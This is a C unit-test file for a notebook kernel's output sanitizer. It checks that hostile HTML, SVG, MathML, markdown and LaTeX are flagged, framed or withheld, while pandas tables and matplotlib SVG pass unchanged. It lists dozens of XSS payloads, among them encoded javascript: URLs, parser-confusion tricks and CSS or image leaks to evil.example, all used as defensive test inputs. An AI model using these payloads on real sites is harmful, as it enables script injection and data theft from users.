/* Unit tests for active and active_html: what a sandboxed kernel's output may
 * put in a notebook's page. Hostile markup (scripts, handlers, javascript:
 * URLs however spelt, SVG and MathML tricks, markup that libxml2 and a browser
 * would read apart) is active; a DataFrame's table, a Styler's, matplotlib's
 * SVG and ordinary HTML are not, and pass unchanged; an active bundle comes
 * out inert (withheld, framed, or shown as a picture or as text). */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "kernel/supervisor/active.h"
#include "kernel/supervisor/active_html.h"
#include "testing.h"

static bool html(const char *s)
{
    return active_html_safe(s, strlen(s), false);
}

static char *read_fixture(const char *name, size_t *len)
{
    FILE *f = fopen(testing_fixture(name), "rb");
    REQUIRE(f != NULL);
    static char buf[1 << 20];
    *len = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    buf[*len] = 0;
    return buf;
}

static const char *const hostile_html[] = {
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnError=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href to=javascript:alert(1) /></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\"/></svg>",
    "<svg><use href=\"https://evil.example/x.svg#a\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"  JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;vascript&#58;alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<iframe src=\"/api/kernels\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"x.swf\"></object>",
    "<embed src=\"x.swf\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<form action=\"/api/kernels\" method=post><button>go</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<!DOCTYPE x \"a><img src=x onerror=alert(1)>\">",
    "<!DOCTYPE html [<!ENTITY x \"y\">]><p>&x;</p>",
    "<?x a=\"><img src=x onerror=alert(1)>\"?>",
    "<? ><img src=x onerror=alert(1)>?>",
    "<!x><img src=x onerror=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>body{background:url(https://evil.example/?leak)}</style>",
    "<style>body{background:u\\72l(https://evil.example/)}</style>",
    "<style>x{background-image:image-set(\"https://evil.example/a.png\" 1x)}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"background:url&lpar;https://evil.example/)\">x</div>",
    "<td background=\"https://evil.example/x.png\">x</td>",
    "<img src=\"https://evil.example/?leak=1\">",
    "<img srcset=\"https://evil.example/a.png 1x\">",
    "<video poster=\"https://evil.example/a.png\"></video>",
    "<p>$\\href{javascript:alert(1)}{click}$</p>",
    "$$\\class{x}{y}$$",
    "<div data-toggle=\"collapse\" data-target=\"<img src=x onerror=alert(1)>\">x</div>",
    "<div xml:base=\"javascript:alert(1)//\"><a href=\"x\">x</a></div>",
    "<a href=\"x\" href=\"javascript:alert(1)\">x</a>",

    "<div \"onclick=alert(1)>x</div>",
    "<img name=\"cookie\" src=\"data:image/png;base64,AA==\">",
    "<img src=x on\x01error=alert(1)>",
    "<img\x01src=x onerror=alert(1)>",
    "<a href=\"java\x01script:alert(1)\">x</a>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    NULL,
};

static void test_hostile_html_is_active(void)
{
    for (size_t i = 0; hostile_html[i]; i++) {
        bool safe = html(hostile_html[i]);
        if (safe)
            fprintf(stderr, "taken as safe: %s\n", hostile_html[i]);
        CHECK(!safe);
    }
}

static void test_null_bytes_and_oversized_input_are_active(void)
{
    static const char nul[] = "<p>x</p>\0<script>alert(1)</script>";
    CHECK(!active_html_safe(nul, sizeof nul - 1, false));
    CHECK(!active_html_safe("a\0b", 3, false)); /* even without a tag */
    size_t n = ACTIVE_HTML_MAX_PARSE + 1;
    char *big = malloc(n);
    REQUIRE(big != NULL);
    memset(big, 'a', n);
    memcpy(big, "<p>", 3);
    CHECK(!active_html_safe(big, n, false));
    free(big);
}

static void test_ordinary_html_is_safe(void)
{
    static const char *const fine[] = {
        "plain text, no tags at all & an ampersand",
        "<b>bold</b> and <i>italic</i>, <code>x = 1</code>",
        "<h3>Title</h3><p style=\"color: #333; font-weight: bold\">text</p>",
        "<table border=\"1\"><tr><th>a</th><td colspan=2>b</td></tr></table>",
        "<ul><li>one</li><li>two</li></ul><hr><br>",
        "<a href=\"https://example.org/doc?a=1&amp;b=2\" target=\"_blank\">doc</a>",
        "<a href=\"#section\">up</a> <a href=\"files/results.csv\">results</a>",
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"chart\" width=\"200\">",
        "<!-- a note --><p>x</p>",
        "<div class=\"x\"><span title=\"a &lt;b&gt; c\">y</span></div>",
        "<p>unclosed <b>bold</p>",
        "<\x01img src=x onerror=alert(1)>", /* text to HTML5: '<' then no letter */
        "<p>controls \x01 and \x1f in text, \"quotes\" and \\ a backslash</p>",
        "<svg width=\"10\" height=\"10\"><rect width=\"10\" height=\"10\" "
        "style=\"fill: url(#g)\"/></svg>",
        NULL,
    };
    for (size_t i = 0; fine[i]; i++) {
        bool safe = html(fine[i]);
        if (!safe)
            fprintf(stderr, "taken as active: %s\n", fine[i]);
        CHECK(safe);
    }
}

static void test_remote_pictures_only_with_the_network(void)
{
    static const char img[] = "<img src=\"https://example.org/logo.png\">";
    CHECK(!active_html_safe(img, sizeof img - 1, false));
    CHECK(active_html_safe(img, sizeof img - 1, true));
    static const char *const elsewhere[] = {
        "<img src=\"//evil.example/?leak\">", "<img src=\" /\t/evil.example/\">",
        "<img src=\"/\\evil.example/\">", "<svg><image href=\"//evil.example/\"/></svg>",
        NULL};
    for (size_t i = 0; elsewhere[i]; i++) {
        CHECK(!active_html_safe(elsewhere[i], strlen(elsewhere[i]), false));
        CHECK(active_html_safe(elsewhere[i], strlen(elsewhere[i]), true));
    }
    static const char own[] = "<img src=\"/files/chart.png\"><img src=\"chart.png\">";
    CHECK(active_html_safe(own, sizeof own - 1, false));
    static const char js[] = "<img src=\"javascript:alert(1)\">";
    CHECK(!active_html_safe(js, sizeof js - 1, true));
}

static void test_pandas_and_matplotlib_are_safe(void)
{
    static const char *const names[] = {"active/df.html", "active/styler.html",
                                        "active/mpl.svg", NULL};
    for (size_t i = 0; names[i]; i++) {
        size_t n;
        const char *s = read_fixture(names[i], &n);
        bool safe = active_html_safe(s, n, false);
        if (!safe)
            fprintf(stderr, "taken as active: %s\n", names[i]);
        CHECK(safe);
    }
}

static void test_markdown_and_latex(void)
{
    static const char *const hostile[] = {
        "[click](javascript:alert(1))",
        "[click]( JaVa\\ScRiPt:alert(1) )",
        "[click](javascript\\:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click][1]\n\n[1]: javascript:alert(1)",
        "[click](data:text/html,x)",
        "<img src=x onerror=alert(1)>",
        "# Title\n\n<script>alert(1)</script>",
        "<javascript:alert(1)>",
        "$\\href{javascript:alert(1)}{x}$",
        NULL,
    };
    for (size_t i = 0; hostile[i]; i++) {
        bool safe = active_markdown_safe(hostile[i], strlen(hostile[i]), false);
        if (safe)
            fprintf(stderr, "taken as safe: %s\n", hostile[i]);
        CHECK(!safe);
    }
    static const char fine[] =
        "# Results\n\n**bold**, *it*, `code`, [docs](https://x.org)"
        "\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n$x^2 + \\alpha$";
    CHECK(active_markdown_safe(fine, sizeof fine - 1, false));
    static const char picture[] = "![chart](https://evil.example/?leak=1)";
    CHECK(!active_markdown_safe(picture, sizeof picture - 1, false));
    CHECK(active_markdown_safe(picture, sizeof picture - 1, true));
    CHECK(active_latex_safe("$\\frac{a}{b}$", 13));
    CHECK(!active_latex_safe("\\HREF{x}{y}", 11));
}

static json_t *bundle(const char *json)
{
    json_error_t e;
    json_t *b = json_loads(json, 0, &e);
    REQUIRE(b != NULL);
    return b;
}

static const char *str(const json_t *b, const char *key)
{
    return json_string_value(json_object_get(b, key));
}

static void test_javascript_is_withheld_with_a_note(void)
{
    struct active_policy p = {false};
    json_t *b = bundle("{\"text/plain\": \"<IPython.core.display.Javascript object>\","
                       " \"application/javascript\": \"fetch('/api/kernels')\","
                       " \"text/javascript\": \"x\", \"Application/X-JavaScript\": \"x\","
                       " \"application/ecmascript\": \"x\","
                       " \"application/vnd.bokehjs_exec.v0+json\": {}}");
    CHECK_INT(active_bundle(b, &p), 5);
    CHECK_INT(json_object_size(b), 1);
    CHECK(strstr(str(b, "text/plain"), "--active-output on") != NULL);
    json_decref(b);
    /* beside other output, the note does not replace it */
    b = bundle("{\"text/plain\": \"Figure()\", \"text/html\": \"<b>x</b>\","
               " \"application/javascript\": \"x\"}");
    CHECK_INT(active_bundle(b, &p), 1);
    CHECK_STR(str(b, "text/plain"), "Figure()");
    CHECK_STR(str(b, "text/html"), "<b>x</b>");
    json_decref(b);
}

static void test_active_html_is_framed_without_same_origin(void)
{
    struct active_policy p = {false};
    json_t *b = bundle("{\"text/html\": \"<b onclick=\\\"go()\\\">x & \\\"y\\\"</b>\"}");
    CHECK_INT(active_bundle(b, &p), 1);
    const char *h = str(b, "text/html");
    REQUIRE(h != NULL);
    CHECK(strncmp(h, "<iframe sandbox=\"allow-scripts\" ", 32) == 0);
    CHECK(strstr(h, "allow-same-origin") == NULL);
    CHECK(strstr(h, "Content-Security-Policy") != NULL);
    CHECK(strstr(h, "&lt;b onclick=&quot;go()&quot;&gt;x &amp; &quot;y&quot;&lt;/b&gt;"));
    /* what it holds cannot close the attribute or the frame */
    const char *srcdoc = strstr(h, "srcdoc=\"") + 8;
    CHECK(strchr(srcdoc, '"') == h + strlen(h) - strlen("\"></iframe>"));
    CHECK(strchr(srcdoc, '<') == h + strlen(h) - strlen("</iframe>"));
    json_decref(b);
    /* with the network on, the frame may load */
    p.remote = true;
    b = bundle("{\"TEXT/HTML\": \"<script>x</script>\"}");
    CHECK_INT(active_bundle(b, &p), 1);
    CHECK(strstr(str(b, "TEXT/HTML"), "Content-Security-Policy") == NULL);
    json_decref(b);
}

static void test_huge_active_html_is_withheld(void)
{
    struct active_policy p = {false};
    size_t n = (8u << 20) + 1;
    char *big = malloc(n + 1);
    REQUIRE(big != NULL);
    for (size_t i = 0; i < n; i++)
        big[i] = "<b>\""[i % 4];
    big[n] = 0;
    json_t *b = json_pack("{s:s, s:s}", "text/html", big, "text/plain", "<HTML object>");
    free(big);
    CHECK_INT(active_bundle(b, &p), 1);
    CHECK(json_object_get(b, "text/html") == NULL);
    CHECK(strstr(str(b, "text/plain"), "too large to check") != NULL);
    json_decref(b);
}

static void test_active_svg_becomes_a_picture(void)
{
    struct active_policy p = {false};
    json_t *b = bundle("{\"text/plain\": \"<Figure>\", \"image/svg+xml\":"
                       " \"<svg onload=\\\"alert(1)\\\"></svg>\"}");
    CHECK_INT(active_bundle(b, &p), 1);
    CHECK(json_object_get(b, "image/svg+xml") == NULL);
    CHECK(strncmp(str(b, "text/html"), "<img src=\"data:image/svg+xml;base64,", 36) == 0);
    json_decref(b);
}

static void test_markdown_and_non_strings(void)
{
    struct active_policy p = {false};
    json_t *b = bundle("{\"text/markdown\": \"[x](javascript:alert(1))\","
                       " \"text/html\": [\"<b>\", \"x\"], \"text/latex\": \"$x$\"}");
    CHECK_INT(active_bundle(b, &p), 2);
    CHECK(json_object_get(b, "text/markdown") == NULL);
    CHECK(json_object_get(b, "text/html") == NULL);
    CHECK_STR(str(b, "text/plain"), "[x](javascript:alert(1))");
    CHECK_STR(str(b, "text/latex"), "$x$");
    json_decref(b);
    b = bundle(
        "{\"text/markdown\": \"<script>x</script>\", \"text/plain\": \"<Markdown>\"}");
    CHECK_INT(active_bundle(b, &p), 1);
    CHECK_STR(str(b, "text/plain"), "<script>x</script>");
    json_decref(b);
    b = bundle("{\"text/latex\": \"\\\\href{x}{y}\", \"text/plain\": \"y\"}");
    CHECK_INT(active_bundle(b, &p), 1);
    CHECK_STR(str(b, "text/plain"), "y");
    json_decref(b);
}

static void test_safe_bundles_are_unchanged(void)
{
    struct active_policy p = {false};
    size_t n;
    const char *svg = read_fixture("active/mpl.svg", &n);
    json_t *b = json_pack("{s:s, s:s#, s:s}", "text/plain", "<Figure>", "image/svg+xml",
                          svg, (int)n, "image/png", "iVBORw0KGgo=");
    json_t *copy = json_deep_copy(b);
    CHECK_INT(active_bundle(b, &p), 0);
    CHECK(json_equal(b, copy));
    json_decref(b);
    json_decref(copy);
}

static void test_messages(void)
{
    struct active_policy p = {false};
    json_t *c =
        bundle("{\"data\": {\"application/javascript\": \"x\"}, \"metadata\": {}}");
    CHECK_INT(active_iopub("update_display_data", c, &p), 1);
    json_decref(c);
    /* a pager payload is HTML in Notebook's page */
    c = bundle(
        "{\"status\": \"ok\", \"payload\": [{\"source\": \"page\", \"data\":"
        " {\"text/html\": \"<img src=x onerror=alert(1)>\", \"text/plain\": \"x\"}}]}");
    CHECK_INT(active_reply(c, &p), 1);
    json_decref(c);
    c = bundle("{\"status\": \"ok\", \"user_expressions\": {\"a\": {\"status\": \"ok\","
               " \"data\": {\"text/html\": \"<svg onload=x>\"}}}}");
    CHECK_INT(active_reply(c, &p), 1);
    json_decref(c);
    c = bundle("{\"status\": \"ok\", \"found\": true, \"data\": {\"text/html\":"
               " \"<script>x</script>\"}}");
    CHECK_INT(active_reply(c, &p), 1);
    json_decref(c);
}

static void test_comm_messages(void)
{
    struct active_policy p = {false};
    json_t *c = bundle(
        "{\"comm_id\": \"c\", \"target_name\": \"jupyter.widget\", \"data\": {\"state\": "
        "{"
        "\"_view_module\": \"../files/evil\", \"_model_module\": "
        "\"@jupyter-widgets/output\","
        "\"value\": \"<img src=x onerror=alert(1)>\", \"description\": \"<b>ok</b>\","
        "\"outputs\": [{\"output_type\": \"display_data\", \"data\":"
        " {\"application/javascript\": \"x\"}, \"metadata\": {}}]}}}");
    CHECK_INT(active_iopub("comm_open", c, &p), 3);
    json_t *state = json_object_get(json_object_get(c, "data"), "state");
    CHECK_STR(str(state, "_view_module"), "sandpit-withheld");
    CHECK_STR(str(state, "_model_module"), "@jupyter-widgets/output");
    CHECK(strncmp(str(state, "value"), "<iframe sandbox=\"allow-scripts\"", 31) == 0);
    CHECK_STR(str(state, "description"), "<b>ok</b>");
    json_decref(c);
    static const char *const modules[] = {"/files/x.js",
                                          "https://evil.example/x",
                                          "nbextensions/evil",
                                          "x.js",
                                          "@a/b/c",
                                          "@a/..",
                                          NULL};
    for (size_t i = 0; modules[i]; i++) {
        c = json_pack("{s:{s:{s:s}}}", "data", "state", "_view_module", modules[i]);
        CHECK_INT(active_iopub("comm_msg", c, &p), 1);
        json_decref(c);
    }
    c = json_pack("{s:{s:{s:s, s:s}}}", "data", "state", "_esm", "export default {}",
                  "_css", "body{}");
    CHECK_INT(active_iopub("comm_open", c, &p), 2);
    json_decref(c);
    c = json_pack("{s:{s:{s:s, s:s}}}", "data", "state", "_view_module_version",
                  "1.0.0/../../evil@1/x", "_model_module_version", "^1.5.0");
    CHECK_INT(active_iopub("comm_open", c, &p), 1);
    json_decref(c);
    c = json_pack("{s:{s:{s:s}}}", "data", "state", "_view_module", "jupyter-matplotlib");
    CHECK_INT(active_iopub("comm_msg", c, &p), 0);
    json_decref(c);
}

static const struct testing_case cases[] = {
    TESTING_CASE(test_hostile_html_is_active),
    TESTING_CASE(test_null_bytes_and_oversized_input_are_active),
    TESTING_CASE(test_ordinary_html_is_safe),
    TESTING_CASE(test_remote_pictures_only_with_the_network),
    TESTING_CASE(test_pandas_and_matplotlib_are_safe),
    TESTING_CASE(test_markdown_and_latex),
    TESTING_CASE(test_javascript_is_withheld_with_a_note),
    TESTING_CASE(test_active_html_is_framed_without_same_origin),
    TESTING_CASE(test_huge_active_html_is_withheld),
    TESTING_CASE(test_active_svg_becomes_a_picture),
    TESTING_CASE(test_markdown_and_non_strings),
    TESTING_CASE(test_safe_bundles_are_unchanged),
    TESTING_CASE(test_messages),
    TESTING_CASE(test_comm_messages),
    {0},
};

int main(int argc, char **argv)
{
    return testing_main(argc, argv, cases);
}
